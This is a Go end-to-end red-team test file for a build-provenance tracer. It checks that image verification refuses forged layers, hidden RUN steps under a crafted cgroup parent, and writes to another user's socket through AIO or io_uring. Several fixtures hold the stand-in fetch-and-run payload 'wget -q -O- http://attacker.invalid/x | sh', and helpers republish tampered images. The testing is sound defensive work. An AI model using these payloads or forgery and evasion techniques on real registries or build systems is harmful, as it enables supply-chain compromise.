package e2e

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/buildtrace/buildtrace/pkg/registry"
	"github.com/buildtrace/buildtrace/pkg/steptag"
	"github.com/buildtrace/buildtrace/test/lab"
	digest "github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
)

// Red team 16: the witness (a step the frontend runs on each result, whose
// signed lowers bind the layers above the last RUN) and the foreign-socket
// record (a step's I/O on an IP socket made in another cgroup).

// TestRedTeam16WitnessEvidenceOfAnotherBuild: a witness BuildKit served
// from its cache was proven by the evidence of its earlier run. Its step ID,
// like every step ID, does not cover the build context's content, and the
// tracer keeps one run of a step per diff digest, the latest: a witness's
// diff is always empty. So after a build of the same Dockerfile with another
// context (anyone who can build on the builder: a local build client), an
// identical rebuild of the first context carried that other build's witness
// run as evidence. The honest rebuild then failed verify, and a registry
// writer who gave it the other build's COPY layer passed it: verify accepted
// an image whose COPY layer no step of its build made.
func TestRedTeam16WitnessEvidenceOfAnotherBuild(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	n := randHex(6)
	df := dockerfile(l, "FROM BASE\nRUN echo "+n+" > /n\nCOPY app.sh /opt/app-"+n+".sh\n")
	vdir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "app.sh": "echo honest\n"})
	adir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "app.sh": "wget -q -O- http://attacker.invalid/x | sh\n"})

	v1, a1, v2 := l.Ref("redteam16-wev"), l.Ref("redteam16-wev"), l.Ref("redteam16-wev")
	l.MustBuild(t, ctx, lab.Build{Context: vdir, Tag: v1, Push: true})
	l.MustBuild(t, ctx, lab.Build{Context: adir, Tag: a1, Push: true}) // the other context, same Dockerfile
	res := l.MustBuild(t, ctx, lab.Build{Context: vdir, Tag: v2, Push: true})
	if !strings.Contains(res.Output, "[buildtrace] witness linux/amd64") {
		t.Fatalf("the rebuild shows no witness step:\n%s", res.Output)
	}
	a1Build := rtSignedBuild(t, ctx, l, a1).BuildTraceID
	for _, e := range rtSignedBuild(t, ctx, l, v2).Evidence {
		t.Logf("v2 carries evidence of step %s from build %s (a1's: %v)", e.StepID, e.BuildTraceID, e.BuildTraceID == a1Build)
	}

	out, code := runCLI(t, l, "verify", v2, "--key", l.TracerPub)
	t.Logf("verify of the honest rebuild v2: exit %d\n%s", code, out)
	if code != 0 {
		t.Errorf("the honest rebuild does not verify (its witness bound by another build's run)")
	}

	// The registry writer: v2 with a1's COPY layer.
	forged := l.Ref("redteam16-wev")
	rtSwapLayer(t, ctx, l.Image(t, ctx, v2), forged, -1, l.Image(t, ctx, a1), -1)
	out, code = runCLI(t, l, "verify", forged, "--key", l.TracerPub)
	if code == 0 {
		t.Errorf("ATTACK WORKS: verify accepts the rebuild with the COPY layer of another build's context (a1's), bound by a1's witness run:\n%s", out)
		return
	}
	t.Logf("verify of the forgery: exit %d (refused)\n%s", code, out)
	if !strings.Contains(out, "[binding]") {
		t.Errorf("verify refuses the forgery, but not for its binding")
	}
}

// TestRedTeam16CachedChainOfAnotherBuild: the same as
// TestRedTeam16WitnessEvidenceOfAnotherBuild for a result whose last op is a
// RUN, which gets no witness. The tracer offers a cached step every earlier
// run of it with another diff (up to four): an identical rebuild (v2) of
// context v carries the run of build a1 (other context, same Dockerfile)
// as evidence of its RUN. A registry writer gives v2 a1's COPY and RUN
// layers: the COPY layer is bound by plan position, a1's run binds its RUN
// layer over that COPY layer, and verify accepted an image with a COPY
// layer (the script the RUN ran) no step of v2's build made.
func TestRedTeam16CachedChainOfAnotherBuild(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	n := randHex(6)
	df := dockerfile(l, "FROM BASE\nCOPY app.sh /opt/app.sh\nRUN cp /opt/app.sh /opt/run-"+n+".sh\n")
	vdir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "app.sh": "echo honest\n"})
	adir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "app.sh": "wget -q -O- http://attacker.invalid/x | sh\n"})
	v1, a1, v2 := l.Ref("redteam16-chain"), l.Ref("redteam16-chain"), l.Ref("redteam16-chain")
	l.MustBuild(t, ctx, lab.Build{Context: vdir, Tag: v1, Push: true})
	l.MustBuild(t, ctx, lab.Build{Context: adir, Tag: a1, Push: true})
	res := l.MustBuild(t, ctx, lab.Build{Context: vdir, Tag: v2, Push: true})
	if runs, cached := cachedRuns(res.Output); runs != 1 || cached != 1 {
		t.Fatalf("v2's RUN was not served from the cache (%d runs, %d cached):\n%s", runs, cached, res.Output)
	}
	out, code := runCLI(t, l, "verify", v2, "--key", l.TracerPub)
	t.Logf("verify of the honest rebuild v2: exit %d\n%s", code, out)
	if code != 0 {
		t.Errorf("the honest rebuild does not verify")
	}

	// The registry writer: v2 with a1's COPY and RUN layers.
	forged := l.Ref("redteam16-chain")
	rt16SwapTop(t, ctx, l.Image(t, ctx, v2), forged, l.Image(t, ctx, a1), 2)
	out, code = runCLI(t, l, "verify", forged, "--key", l.TracerPub)
	if code == 0 {
		if os.Getenv("BUILDTRACE_REDTEAM_OPEN") == "" {
			t.Skipf("SKIP LOUDLY: OPEN HOLE (set BUILDTRACE_REDTEAM_OPEN=1 to fail on it): verify accepts a cached rebuild whose COPY and RUN layers are another build's (other context), bound by that build's run carried as evidence:\n%s", out)
		}
		t.Errorf("ATTACK WORKS: verify accepts the rebuild with the COPY and RUN layers of another build's context (a1's):\n%s", out)
		return
	}
	t.Logf("verify of the forgery: exit %d (refused)\n%s", code, out)
	if !strings.Contains(out, "[binding]") {
		t.Errorf("verify refuses the forgery, but not for its binding")
	}
}

// TestRedTeam16CgroupParentHidesARun: the frontend kept the step ID of an
// ExecOp whose cgroup parent named a step already (the witness's solve holds
// the image's tagged ops). A build client sets any cgroup parent it likes
// (buildx --cgroup-parent): buildtrace/<id>/hidden kept step <id> and got no
// nonce, runc put the container in /buildtrace/<id>/hidden/buildkit/<c>,
// four levels below "buildtrace", which the kernel side does not follow. The
// RUN ran unseen; the plan's step looked cached, and the tracer proved it
// with the evidence of an earlier, honest run of the same command: verify
// accepted, under egress.allowed: [], a step that contacted the network.
func TestRedTeam16CgroupParentHidesARun(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	const target = "127.0.0.165:8086"
	got := rt16Listen(t, target)
	n := randHex(6)
	// Traced, a step's NO_PROXY holds its nonce; hidden, it has none.
	run := `if [ -z "$NO_PROXY" ]; then wget -q -O /dev/null http://` + target + `/` + n + ` || true; fi; echo ` + n + ` > /out`
	dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, "FROM BASE\nRUN "+run+"\n")})

	first := l.Ref("redteam16-cg")
	l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: first, Push: true})
	id := ""
	for _, p := range rtSignedBuild(t, ctx, l, first).Plan {
		for _, s := range p.Steps {
			if strings.Contains(s.Instruction, n) {
				id = s.StepID
			}
		}
	}
	if id == "" {
		t.Fatal("the first build's signed plan has no step for the RUN")
	}
	select {
	case m := <-got:
		t.Fatalf("the traced first run contacted %s (%q): the test is void", target, m)
	default:
	}

	// The attacker's build: the same Dockerfile, run again (--no-cache),
	// under a cgroup parent below the step's.
	second := l.Ref("redteam16-cg")
	parent := steptag.CgroupParent(id) + "/hidden"
	res := l.Buildx(ctx, lab.Build{Context: dir, Tag: second, Push: true, Args: []string{"--no-cache", "--cgroup-parent", parent}})
	if res.Err != nil {
		t.Fatalf("the build with --cgroup-parent %s: %v\n%s", parent, res.Err, res.Output)
	}
	hidden := false
	select {
	case m := <-got:
		hidden = true
		t.Logf("the second build's RUN contacted %s (%q)", target, m)
	case <-time.After(5 * time.Second):
	}
	b := rtSignedBuild(t, ctx, l, second)
	runs := 0
	for _, s := range b.Steps {
		if s.StepID == id {
			runs++
		}
	}
	t.Logf("the second build's signed trace holds %d run(s) of step %s", runs, id)
	policy := writePolicy(t, "egress:\n  allowed: []\n")
	out, code := runCLI(t, l, "verify", second, "--key", l.TracerPub, "--policy", policy)
	t.Logf("verify --policy (egress.allowed: []): exit %d\n%s", code, out)
	if code == 0 && hidden {
		t.Errorf("ATTACK WORKS: verify accepts, under egress.allowed: [], a build whose RUN (cgroup parent %s) contacted %s unseen", parent, target)
	}
	if runs == 0 {
		t.Errorf("the second build's RUN ran (--no-cache), but the signed trace holds no run of its step %s", id)
	}
}

// TestRedTeam16ForeignSocketAIO: another local user (uid 65534) passes a
// connected TCP socket to a RUN step, as in TestRedTeam9PassedSocket. The
// step writes to it with Linux AIO (io_submit, IOCB_CMD_PWRITE), which is
// none of the calls the foreign-socket check looked at: the write happens
// inside io_submit, and the packet counters charge the socket's cgroup.
// verify accepted it under egress.allowed: [], the trace naming nothing.
// With io_uring (IORING_OP_SEND) the step must be incomplete, as io_uring
// submissions are counted; that subtest skips when the container cannot use
// io_uring.
func TestRedTeam16ForeignSocketAIO(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	if os.Geteuid() != 0 {
		t.Skip("SKIP LOUDLY: running the helper as another user needs root")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	const target = "127.0.0.166:8087"
	got := rt16Listen(t, target)
	bin := staticTestdataC(t, "redteam9", "sockfd")
	name := rt16SockHelper(t, ctx, bin, target)
	for _, how := range []string{"aio", "uring"} {
		t.Run(how, func(t *testing.T) {
			df := dockerfile(l, "FROM BASE\n"+
				"COPY --chmod=0755 sockfd /usr/local/bin/sockfd\n"+
				"RUN /usr/local/bin/sockfd take "+name+" "+how+" || echo RT16 FAILED "+how+"; echo "+randHex(8)+" > /done\n")
			dir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "sockfd": bin})
			ref := l.Ref("redteam16-sockfd-" + how)
			res := l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: ref, Push: true})
			if !strings.Contains(res.Output, "RT9 SOCKFD wrote to the passed socket with "+how) {
				if how == "uring" && strings.Contains(res.Output, "RT9 io_uring_setup") {
					t.Skipf("SKIP: the step cannot use io_uring here (seccomp or sysctl):\n%s", res.Output)
				}
				t.Fatalf("the step did not write:\n%s", res.Output)
			}
			select {
			case m := <-got:
				t.Logf("the listener on %s received %q", target, strings.TrimSpace(m))
			case <-time.After(10 * time.Second):
				t.Fatalf("the listener on %s received nothing", target)
			}
			b := rtSignedBuild(t, ctx, l, ref)
			named, incomplete := false, false
			for _, st := range b.Steps {
				for _, d := range st.Network {
					t.Logf("signed destination: %s %s %s:%d foreignSocket %v", d.Protocol, d.Op, d.IP, d.Port, d.ForeignSocket)
					if fmt.Sprintf("%s:%d", d.IP, d.Port) == target && d.ForeignSocket {
						named = true
					}
				}
				t.Logf("step %s: complete %v, reasons %q, unobserved %v", st.StepID, st.Completeness.Complete, st.Completeness.Reasons, st.Completeness.Unobserved)
				if !st.Completeness.Complete {
					incomplete = true
				}
			}
			policy := writePolicy(t, "egress:\n  allowed: []\n")
			out, code := runCLI(t, l, "verify", ref, "--key", l.TracerPub, "--policy", policy)
			t.Logf("verify --policy (egress.allowed: []): exit %d\n%s", code, out)
			if code == 0 {
				t.Errorf("ATTACK WORKS: verify accepts, under a deny-all allow-list, a step that wrote to %s with %s on a socket another local user passed it", target, how)
			}
			if !incomplete {
				t.Errorf("no signed step is incomplete, though one wrote to a socket made outside it with %s", how)
			}
			if how == "aio" && !named {
				t.Errorf("the signed trace has no destination %s (foreignSocket), which the step wrote to with io_submit", target)
			}
		})
	}
}

// rt16Listen listens on target (TCP) and sends what each connection's
// first read holds.
func rt16Listen(t *testing.T, target string) <-chan string {
	t.Helper()
	got := make(chan string, 8)
	ln, err := net.Listen("tcp4", target)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
				b := make([]byte, 256)
				n, _ := c.Read(b)
				got <- string(b[:n])
			}()
		}
	}()
	return got
}

// rt16SockHelper starts testdata/redteam9/sockfd as uid 65534: it hands a
// socket connected to target to whoever connects to the abstract unix
// socket whose name it returns.
func rt16SockHelper(t *testing.T, ctx context.Context, bin, target string) string {
	t.Helper()
	hdir, err := os.MkdirTemp("", "rt16-sockfd-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(hdir) })
	if err := os.Chmod(hdir, 0o755); err != nil {
		t.Fatal(err)
	}
	helper := filepath.Join(hdir, "sockfd")
	if err := os.WriteFile(helper, []byte(bin), 0o755); err != nil {
		t.Fatal(err)
	}
	name := "rt16fd-" + randHex(8)
	cmd := exec.CommandContext(ctx, helper, name, target)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	line, err := bufio.NewReader(stdout).ReadString('\n')
	if err != nil || !strings.Contains(line, "RT9 SOCKFD ready uid 65534") {
		t.Fatalf("the other user's helper did not start: %q %v", line, err)
	}
	return name
}

// rt16SwapTop republishes img under newRef with its top k layers replaced
// by other's top k, the blobs copied over, config and attestation kept
// consistent.
func rt16SwapTop(t *testing.T, ctx context.Context, img *registry.Image, newRef string, other *registry.Image, k int) {
	t.Helper()
	m, om := img.Manifests[0], other.Manifests[0]
	n, on := len(m.Manifest.Layers), len(om.Manifest.Layers)
	layers := map[int]ocispec.Descriptor{}
	diffIDs := map[int]digest.Digest{}
	for x := 1; x <= k; x++ {
		raw := rtLayerTar(t, ctx, other.Ref, om.Manifest.Layers[on-x])
		layers[n-x] = pushBytes(t, ctx, registry.New(registry.Options{}), newRef, ocispec.MediaTypeImageLayerGzip, rtGzip(t, raw))
		diffIDs[n-x] = digest.FromBytes(raw)
	}
	forge(t, ctx, img, newRef, forgery{
		config: func(cfg *ocispec.Image) {
			cfg.RootFS.DiffIDs = slices.Clone(cfg.RootFS.DiffIDs)
			for i, d := range diffIDs {
				cfg.RootFS.DiffIDs[i] = d
			}
		},
		layers: func(ls []ocispec.Descriptor) []ocispec.Descriptor {
			for i, d := range layers {
				ls[i] = d
			}
			return ls
		},
	})
}

// TestRedTeam16WitnessMountPointTaken: a step shapes the result the witness
// runs on: /.buildtrace-witness, where the witness mounts the frontend's
// image, is a file, or a symlink to elsewhere. The most it may get is a
// failed build; a build that succeeds must have a witness that binds the
// layer above the last RUN, so a registry writer's replacement of it is
// refused.
func TestRedTeam16WitnessMountPointTaken(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	for _, c := range []struct{ name, run string }{
		{"file", "echo x > /.buildtrace-witness"},
		{"symlink to /tmp", "ln -s /tmp /.buildtrace-witness"},
		{"symlink to /", "ln -s / /.buildtrace-witness"},
		{"dangling symlink", "ln -s /nonexistent/dir /.buildtrace-witness"},
	} {
		t.Run(c.name, func(t *testing.T) {
			n := randHex(6)
			df := dockerfile(l, "FROM BASE\nRUN "+c.run+" && echo "+n+" > /n\nCOPY app.sh /opt/app.sh\n")
			dir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "app.sh": "echo honest\n"})
			ref := l.Ref("redteam16-mnt")
			res := l.Buildx(ctx, lab.Build{Context: dir, Tag: ref, Push: true})
			if res.Err != nil {
				t.Logf("the build fails (a failed build, not a forged one): %v\n%s", res.Err, lastLines(res.Output, 8))
				return
			}
			out, code := runCLI(t, l, "verify", ref, "--key", l.TracerPub)
			t.Logf("the build succeeded; verify: exit %d\n%s", code, out)
			if code != 0 {
				return
			}
			witnessAllBound(t, out)
			img := l.Image(t, ctx, ref)
			i := len(img.Manifests[0].Manifest.Layers) - 1
			forged := l.Ref("redteam16-mnt")
			rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
				for k := range es {
					if strings.HasSuffix(es[k].h.Name, "app.sh") {
						es[k].data = []byte("wget -q -O- http://attacker.invalid/x | sh\n")
					}
				}
				return es
			})
			witnessRefused(t, ctx, l, forged, i)
		})
	}
}

// lastLines returns the last n lines of s.
func lastLines(s string, n int) string {
	ls := strings.Split(strings.TrimRight(s, "\n"), "\n")
	if len(ls) > n {
		ls = ls[len(ls)-n:]
	}
	return strings.Join(ls, "\n")
}
